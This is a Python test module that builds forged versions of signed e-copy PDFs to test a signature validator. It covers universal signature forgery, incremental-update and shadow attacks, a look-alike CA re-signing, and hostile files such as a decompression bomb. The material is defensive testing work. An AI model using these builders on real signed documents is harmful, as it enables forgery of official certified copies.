"""Attack builders against issued e-copies: each takes the genuine signed bytes and returns a forgery.

The attacker holds a genuine copy but never our signing key, so everything here is either a raw
byte edit of the signed file, an incremental update appended to it (pyHanko's
IncrementalPdfFileWriter or a revision written by hand: objects + xref section + trailer with
/Prev), or a signature made with the attacker's own key.

* Universal signature forgery (Mladenov et al., "1 Trillion Dollar Refund", CCS 2019): zeroed
  /Contents, removed /ByteRange, unknown /SubFilter, abnormal byte ranges.
* Incremental saving attack / evil annotation (same paper): updates that change what a page shows.
* Shadow attacks (Mainka, Mladenov, Rohlmann, NDSS 2021): hide (an overlay drawn over signed
  content), replace (an existing object redefined by a new xref entry) and hide-and-replace (the
  catalog redefined to show another page tree, the signed pages left unreferenced). The paper's
  attacker prepares the document before it is signed; against ecopy nobody can get their own
  document signed, so the same effects are built as updates on a genuine copy.
* Signature wrapping-like tricks: a sneaky extra signature by the attacker's key, the same
  content re-signed by a foreign CA whose names copy our office's.
* Hostile files for the diagnosis limits: a decompression bomb, deeply nested arrays, a huge /Size.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zlib
from collections.abc import Mapping, Sequence

from asn1crypto import cms as asn1_cms
from asn1crypto import keys as asn1_keys
from asn1crypto import x509 as asn1_x509
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import fields, signers
from pyhanko.sign.timestamps import DummyTimeStamper
from pyhanko.sign.validation.dss import DocumentSecurityStore
from pyhanko_certvalidator.registry import SimpleCertificateStore

from pipeline.certify.pades import SigningKey, sign_pdf, signing_key_from_signer

_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]\s*")
_CONTENTS = re.compile(rb"/Contents\s*<([0-9A-Fa-f]+)>")


# ---- helpers --------------------------------------------------------------------------------------
def _first_signature(pdf: bytes) -> tuple[re.Match[bytes], re.Match[bytes]]:
    """(the /Contents hex string, the /ByteRange array) of the first signature, as raw matches."""
    br = _BYTE_RANGE.search(pdf)
    assert br is not None, "no /ByteRange in the file"
    contents = None
    for m in _CONTENTS.finditer(pdf, 0, br.start()):
        contents = m
    assert contents is not None and contents.end() <= br.start()
    return contents, br


def _splice(pdf: bytes, start: int, end: int, new: bytes) -> bytes:
    """Replace pdf[start:end] by ``new`` padded with spaces to the same length (offsets unchanged)."""
    assert len(new) <= end - start, (len(new), end - start)
    return pdf[:start] + new.ljust(end - start, b" ") + pdf[end:]


def _serialize(obj: generic.PdfObject) -> bytes:
    buf = io.BytesIO()
    obj.write_to_stream(buf, None)
    return buf.getvalue()


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def _write(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def append_revision(pdf: bytes, objects: Mapping[int, bytes], *, root: int | None = None) -> bytes:
    """An incremental update written by hand: each ``N 0 obj … endobj``, a classic xref section
    and a trailer with /Prev pointing at the previous xref (what every PDF editor appends)."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    trailer = reader.trailer_view
    prev = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    size = max(int(trailer["/Size"]), max(objects) + 1)
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    offsets: dict[int, int] = {}
    for num in sorted(objects):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n"
    for num in sorted(objects):
        out += b"%d 1\n%010d 00000 n \n" % (num, offsets[num])
    id0, id1 = reader.document_id
    info = trailer.raw_get("/Info")
    out += b"trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R /Prev %d /ID [<%s> <%s>] >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        root or reader.root_ref.idnum,
        info.idnum,
        prev,
        id0.hex().encode(),
        id1.hex().encode(),
        xref_at,
    )
    return bytes(out)


def _page_refs(pdf: bytes) -> list[generic.IndirectObject]:
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    refs: list[generic.IndirectObject] = []
    stack = [reader.root.raw_get("/Pages")]
    while stack:
        ref = stack.pop()
        node = ref.get_object()
        if "/Kids" in node:
            stack.extend(reversed(list(node["/Kids"])))
        else:
            refs.append(ref)
    return refs


def unsigned_original(genuine_pdf: bytes) -> bytes:
    """The rendered file before it was signed: pyHanko signs by appending a revision to it."""
    _, br = _first_signature(genuine_pdf)
    eof = genuine_pdf.rfind(b"%%EOF", 0, br.start())
    end = eof + 5
    while genuine_pdf[end : end + 1] in (b"\r", b"\n"):
        end += 1
    return genuine_pdf[:end]


def our_signer_certificate(genuine_pdf: bytes) -> x509.Certificate:
    contents, _ = _first_signature(genuine_pdf)
    signed_data = asn1_cms.ContentInfo.load(bytes.fromhex(contents.group(1).decode()))["content"]
    sid = signed_data["signer_infos"][0]["sid"].chosen  # issuer and serial number
    for choice in signed_data["certificates"]:
        cert = choice.chosen
        if cert.serial_number == sid["serial_number"].native and cert.issuer == sid["issuer"]:
            return x509.load_der_x509_certificate(cert.dump())
    raise AssertionError("the signer's certificate is not embedded")


# ---- universal signature forgery: raw edits of the signature dictionary -------------------------
def zero_signature_value(genuine_pdf: bytes) -> bytes:
    """/Contents kept at its place and length, every hex digit set to 0."""
    contents, _ = _first_signature(genuine_pdf)
    start, end = contents.span(1)
    return genuine_pdf[:start] + b"0" * (end - start) + genuine_pdf[end:]


def zero_cms_signature_value(genuine_pdf: bytes) -> bytes:
    """The CMS stays (our certificate, signed attributes), only the SignerInfo signature is zeroed."""
    contents, _ = _first_signature(genuine_pdf)
    start, end = contents.span(1)
    info = asn1_cms.ContentInfo.load(bytes.fromhex(contents.group(1).decode()))
    signer_info = info["content"]["signer_infos"][0]
    signer_info["signature"] = b"\x00" * len(signer_info["signature"].native)
    hexed = info.dump(force=True).hex().encode()
    return genuine_pdf[:start] + hexed.ljust(end - start, b"0") + genuine_pdf[end:]


def remove_byte_range(genuine_pdf: bytes) -> bytes:
    _, br = _first_signature(genuine_pdf)
    return _splice(genuine_pdf, br.start(), br.end(), b"")


def unknown_subfilter(genuine_pdf: bytes) -> bytes:
    """ETSI.CAdES.detached → adbe.x509.rsa_sha1, a SubFilter pyHanko skips (it then sees no signature)."""
    at = genuine_pdf.index(b"/ETSI.CAdES.detached")
    return _splice(genuine_pdf, at, at + len(b"/ETSI.CAdES.detached"), b"/adbe.x509.rsa_sha1")


def _rewrite_byte_range(genuine_pdf: bytes, values: Sequence[int]) -> bytes:
    _, br = _first_signature(genuine_pdf)
    text = b"/ByteRange [" + b" ".join(b"%d" % v for v in values) + b"]\n"
    return _splice(genuine_pdf, br.start(), br.end(), text)


def byte_range_gap_too_big(genuine_pdf: bytes) -> bytes:
    """The unsigned gap swallows 40 bytes before the /Contents string."""
    _, br = _first_signature(genuine_pdf)
    a, b, c, d = (int(v) for v in br.groups())
    return _rewrite_byte_range(genuine_pdf, (a, b - 40, c, d))


def byte_range_single_range(genuine_pdf: bytes) -> bytes:
    _, br = _first_signature(genuine_pdf)
    _a, b, _c, _d = (int(v) for v in br.groups())
    return _rewrite_byte_range(genuine_pdf, (0, b))


def byte_range_tail_uncovered(genuine_pdf: bytes) -> bytes:
    """The second range stops 200 bytes short of the end of the signed revision."""
    _, br = _first_signature(genuine_pdf)
    a, b, c, d = (int(v) for v in br.groups())
    return _rewrite_byte_range(genuine_pdf, (a, b, c, d - 200))


def append_trailing_data(genuine_pdf: bytes) -> bytes:
    return genuine_pdf + b"\n% appended after %%EOF\n<< /Ho (Nguyen Van Gia) /NgaySinh (01/01/1990) >>\n"


def append_whole_copy(genuine_pdf: bytes) -> bytes:
    """Data after %%EOF that ends with a %%EOF of its own: a second file glued to the first. Readers
    following startxref see the first file; the last %%EOF is clean, pyHanko sees one revision."""
    return genuine_pdf + genuine_pdf


# ---- incremental updates ------------------------------------------------------------------------
def update_page_content(genuine_pdf: bytes, page_index: int = 0) -> bytes:
    """pyHanko's writer appends a content stream that paints over the first page."""
    writer = IncrementalPdfFileWriter(io.BytesIO(genuine_pdf), strict=False)
    ops = b"q 1 1 1 rg 40 40 200 60 re f 0 0 0 rg 40 40 200 60 re S Q"
    ref = writer.add_object(generic.StreamObject(stream_data=ops))
    writer.add_stream_to_page(page_index, ref)
    return _write(writer)


def metadata_only_update(genuine_pdf: bytes) -> bytes:
    """Only the Info dictionary changes (title, author); pyHanko refreshes the XMP dates too."""
    writer = IncrementalPdfFileWriter(io.BytesIO(genuine_pdf), strict=False)
    info = writer.trailer["/Info"]
    info[pdf_name("/Title")] = generic.TextStringObject("Bản sao điện tử — Nguyễn Văn Giả")
    info[pdf_name("/Author")] = generic.TextStringObject("UBND Phường Giả")
    writer.mark_update(writer.trailer.raw_get("/Info"))
    return _write(writer)


def add_text_field(pdf: bytes, name: str = "GhiChu", value: str | None = None) -> bytes:
    """A text field widget on the first page (an empty one before signing makes a fillable copy)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    page_ref, _ = writer.find_page_for_modification(0)
    field_dict = generic.DictionaryObject(
        {
            pdf_name("/FT"): pdf_name("/Tx"),
            pdf_name("/T"): generic.TextStringObject(name),
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/Rect"): generic.ArrayObject(map(generic.FloatObject, (40, 40, 260, 70))),
            pdf_name("/P"): page_ref,
            pdf_name("/F"): generic.NumberObject(4),
        }
    )
    if value is not None:
        field_dict[pdf_name("/V")] = generic.TextStringObject(value)
    ref = writer.add_object(field_dict)
    page = page_ref.get_object()
    annots = list(page["/Annots"]) if "/Annots" in page else []
    page[pdf_name("/Annots")] = generic.ArrayObject([*annots, ref])
    writer.update_container(page)
    if "/AcroForm" in writer.root:
        acroform = writer.root["/AcroForm"]
        acroform["/Fields"].append(ref)
        if acroform.container_ref is not None:
            writer.update_container(acroform)
        writer.update_root()
    else:
        writer.root[pdf_name("/AcroForm")] = writer.add_object(
            generic.DictionaryObject({pdf_name("/Fields"): generic.ArrayObject([ref])})
        )
        writer.update_root()
    return _write(writer)


def fill_form(genuine_pdf: bytes, value: str = "Nguyễn Văn Giả") -> bytes:
    """Fill every empty text field after signing; with none to fill, add a filled one."""
    writer = IncrementalPdfFileWriter(io.BytesIO(genuine_pdf), strict=False)
    filled = 0
    if "/AcroForm" in writer.root:
        for ref in writer.root["/AcroForm"]["/Fields"]:
            field_dict = ref.get_object()
            if field_dict.get("/FT") == "/Tx":
                field_dict[pdf_name("/V")] = generic.TextStringObject(value)
                writer.update_container(field_dict)
                filled += 1
    if not filled:
        return add_text_field(genuine_pdf, "DienSau", value)
    return _write(writer)


# ---- shadow attacks -----------------------------------------------------------------------------
def shadow_hide(genuine_pdf: bytes) -> bytes:
    """Hide: an opaque form XObject drawn over the certification statement of the last page."""
    writer = IncrementalPdfFileWriter(io.BytesIO(genuine_pdf), strict=False)
    cover = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject(map(generic.FloatObject, (0, 0, 500, 400))),
        },
        stream_data=b"1 1 1 rg 0 0 500 400 re f",
    )
    cover_ref = writer.add_object(cover)
    draw = writer.add_object(generic.StreamObject(stream_data=b"q 1 0 0 1 50 380 cm /Che Do Q"))
    resources = generic.DictionaryObject(
        {pdf_name("/XObject"): generic.DictionaryObject({pdf_name("/Che"): cover_ref})}
    )
    writer.add_stream_to_page(len(_page_refs(genuine_pdf)) - 1, draw, resources=resources)
    return _write(writer)


def shadow_replace(genuine_pdf: bytes) -> bytes:
    """Replace: the first page's content stream object gets a new definition (same number, new xref entry)."""
    reader = PdfFileReader(io.BytesIO(genuine_pdf), strict=False)
    page = _page_refs(genuine_pdf)[0].get_object()
    contents = page.raw_get("/Contents")
    target = contents if isinstance(contents, generic.IndirectObject) else contents[0]
    if isinstance(target.get_object(), generic.ArrayObject):
        target = target.get_object()[0]
    original = reader.get_object(target.reference).data
    forged = original + b"\nq 1 1 1 rg 40 40 220 60 re f Q"
    return append_revision(genuine_pdf, {target.idnum: _stream(forged)})


def shadow_hide_and_replace(genuine_pdf: bytes) -> bytes:
    """Hide-and-replace: the catalog is redefined to show a new page tree; the signed pages stay in
    the file, unreferenced, and every signature byte is untouched."""
    reader = PdfFileReader(io.BytesIO(genuine_pdf), strict=False)
    root_num = reader.root_ref.idnum
    size = int(reader.trailer_view["/Size"])
    pages_num, page_num, content_num = size, size + 1, size + 2
    last = _page_refs(genuine_pdf)[-1].get_object()
    catalog = generic.DictionaryObject(dict(reader.root))
    for key in list(catalog):
        catalog[key] = reader.root.raw_get(key)
    catalog[pdf_name("/Pages")] = generic.IndirectObject(pages_num, 0, None)
    page = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/Parent"): generic.IndirectObject(pages_num, 0, None),
            pdf_name("/MediaBox"): last["/MediaBox"],
            pdf_name("/Resources"): last.raw_get("/Resources"),
            pdf_name("/Contents"): generic.IndirectObject(content_num, 0, None),
        }
    )
    objects = {
        root_num: _serialize(catalog),
        pages_num: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % page_num,
        page_num: _serialize(page),
        content_num: _stream(b"q 0 0 0 rg 60 700 300 20 re f Q"),
    }
    return append_revision(genuine_pdf, objects)


def evil_annotation(genuine_pdf: bytes) -> bytes:
    """A FreeText annotation whose opaque appearance covers the statement and prints other text."""
    writer = IncrementalPdfFileWriter(io.BytesIO(genuine_pdf), strict=False)
    page_ref, _ = writer.find_page_for_modification(len(_page_refs(genuine_pdf)) - 1)
    rect = (50.0, 380.0, 550.0, 780.0)
    appearance = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject(map(generic.FloatObject, (0, 0, 500, 400))),
        },
        stream_data=b"1 1 1 rg 0 0 500 400 re f",
    )
    annot = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/FreeText"),
            pdf_name("/Rect"): generic.ArrayObject(map(generic.FloatObject, rect)),
            pdf_name("/Contents"): generic.TextStringObject("Chứng thực bản sao — người khác"),
            pdf_name("/DA"): generic.TextStringObject("/Helv 12 Tf 0 g"),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): writer.add_object(appearance)}),
        }
    )
    annot_ref = writer.add_object(annot)
    page = page_ref.get_object()
    annots = list(page["/Annots"]) if "/Annots" in page else []
    page[pdf_name("/Annots")] = generic.ArrayObject([*annots, annot_ref])
    writer.update_container(page)
    return _write(writer)


# ---- signatures by someone else ------------------------------------------------------------------
def forged_office_key(genuine_pdf: bytes, *, now: dt.datetime | None = None) -> SigningKey:
    """A foreign root and a P-256 signer whose subject and issuer names copy our office's exactly."""
    ours = our_signer_certificate(genuine_pdf)
    now = now or dt.datetime.now(dt.UTC) - dt.timedelta(hours=1)
    root_key = ec.generate_private_key(ec.SECP256R1())
    root = (
        x509.CertificateBuilder()
        .subject_name(ours.issuer)
        .issuer_name(ours.issuer)
        .public_key(root_key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now)
        .not_valid_after(now + dt.timedelta(days=3650))
        .add_extension(x509.BasicConstraints(ca=True, path_length=0), critical=True)
        .sign(root_key, hashes.SHA256())
    )
    key = ec.generate_private_key(ec.SECP256R1())
    usage = x509.KeyUsage(True, True, False, False, False, False, False, False, False)
    cert = (
        x509.CertificateBuilder()
        .subject_name(ours.subject)
        .issuer_name(ours.issuer)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now)
        .not_valid_after(now + dt.timedelta(days=365))
        .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
        .add_extension(usage, critical=True)
        .sign(root_key, hashes.SHA256())
    )
    der = serialization.Encoding.DER
    signer = signers.SimpleSigner(
        signing_cert=asn1_x509.Certificate.load(cert.public_bytes(der)),
        signing_key=asn1_keys.PrivateKeyInfo.load(
            key.private_bytes(der, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
        ),
        cert_registry=SimpleCertificateStore.from_certs([asn1_x509.Certificate.load(root.public_bytes(der))]),
    )
    return signing_key_from_signer(signer)


def resign_with_foreign_ca(genuine_pdf: bytes, forged: SigningKey) -> bytes:
    """The same rendered content, our signature removed, signed again by the look-alike key."""
    return sign_pdf(unsigned_original(genuine_pdf), forged)


class _RudePdfSigner(signers.PdfSigner):
    """pyHanko politely refuses to sign under a "no changes" certification; an attacker does not."""

    def _enforce_certification_constraints(self, reader: PdfFileReader) -> None:
        return None


def sneaky_extra_signature(genuine_pdf: bytes, forged: SigningKey) -> bytes:
    """A second, visible signature field signed by the attacker's key in an incremental update."""
    writer = IncrementalPdfFileWriter(io.BytesIO(genuine_pdf), strict=False)
    meta = signers.PdfSignatureMetadata(field_name="XacNhanBoSung", md_algorithm="sha256")
    spec = fields.SigFieldSpec("XacNhanBoSung", on_page=0, box=(40, 40, 240, 100))
    out = io.BytesIO()
    _RudePdfSigner(meta, signer=forged.signer, new_field_spec=spec).sign_pdf(writer, output=out)
    return out.getvalue()


# ---- genuine validation data (B-LTA, re-time-stamping): must stay valid on record --------------
def dummy_timestamper() -> DummyTimeStamper:
    """An in-process TSA with its own self-signed certificate (pyHanko's dummy TSA signs RSA only)."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "ecopy test TSA (attacks)")])
    now = dt.datetime.now(dt.UTC) - dt.timedelta(hours=1)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now)
        .not_valid_after(now + dt.timedelta(days=30))
        .add_extension(x509.ExtendedKeyUsage([ExtendedKeyUsageOID.TIME_STAMPING]), critical=True)
        .sign(key, hashes.SHA256())
    )
    der = serialization.Encoding.DER
    return DummyTimeStamper(
        tsa_cert=asn1_x509.Certificate.load(cert.public_bytes(der)),
        tsa_key=asn1_keys.PrivateKeyInfo.load(
            key.private_bytes(der, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
        ),
    )


def add_validation_data(genuine_pdf: bytes, certs_pem: Sequence[bytes], timestamper: DummyTimeStamper) -> bytes:
    """A DSS with the chain (one revision), then a document time-stamp (another), as B-LTA does."""
    certs = [
        asn1_x509.Certificate.load(x509.load_pem_x509_certificate(p).public_bytes(serialization.Encoding.DER))
        for p in certs_pem
    ]
    buf = io.BytesIO(genuine_pdf)
    DocumentSecurityStore.add_dss(buf, sig_contents=None, certs=certs)
    writer = IncrementalPdfFileWriter(io.BytesIO(buf.getvalue()), strict=False)
    out = io.BytesIO()
    signers.PdfTimeStamper(timestamper).timestamp_pdf(writer, "sha256", output=out)
    return out.getvalue()


# ---- hostile files: incremental updates on a genuine copy, so every stage of the diagnosis meets them
def _first_page_content_number(genuine_pdf: bytes) -> int:
    page = _page_refs(genuine_pdf)[0].get_object()
    contents = page.raw_get("/Contents")
    target = contents if isinstance(contents, generic.IndirectObject) else contents[0]
    if isinstance(target.get_object(), generic.ArrayObject):
        target = target.get_object()[0]
    return int(target.idnum)


def decompression_bomb(genuine_pdf: bytes, decoded_mib: int = 256) -> bytes:
    """The first page's content stream and the XMP metadata redefined as streams that inflate from
    a few KiB to ``decoded_mib`` MiB each (two stacked Flate filters)."""
    inner = zlib.compressobj(9)
    chunk = b"\x00" * (1 << 20)
    once = b"".join(inner.compress(chunk) for _ in range(decoded_mib)) + inner.flush()
    twice = zlib.compress(once, 9)
    extra = b"/Filter [/FlateDecode /FlateDecode] "
    reader = PdfFileReader(io.BytesIO(genuine_pdf), strict=False)
    metadata = reader.root.raw_get("/Metadata").idnum
    objects = {
        _first_page_content_number(genuine_pdf): _stream(twice, extra),
        metadata: _stream(twice, extra + b"/Type /Metadata /Subtype /XML "),
    }
    return append_revision(genuine_pdf, objects)


def deeply_nested_arrays(genuine_pdf: bytes, depth: int = 100_000) -> bytes:
    """The first page's content stream redefined as an array nested ``depth`` levels deep."""
    nested = b"[" * depth + b"]" * depth
    return append_revision(genuine_pdf, {_first_page_content_number(genuine_pdf): nested})


def huge_xref_size(genuine_pdf: bytes) -> bytes:
    """An update whose trailer claims 2^31-1 objects and whose xref subsection claims 10^8 entries."""
    updated = append_revision(genuine_pdf, {_first_page_content_number(genuine_pdf): _stream(b"0 g")})
    tail_at = updated.rindex(b"\nxref\n")
    tail = updated[tail_at:]
    tail = re.sub(rb"\nxref\n(\d+) 1\n", rb"\nxref\n\1 100000000\n", tail, count=1)
    tail = re.sub(rb"/Size \d+", b"/Size 2147483647", tail, count=1)
    return updated[:tail_at] + tail
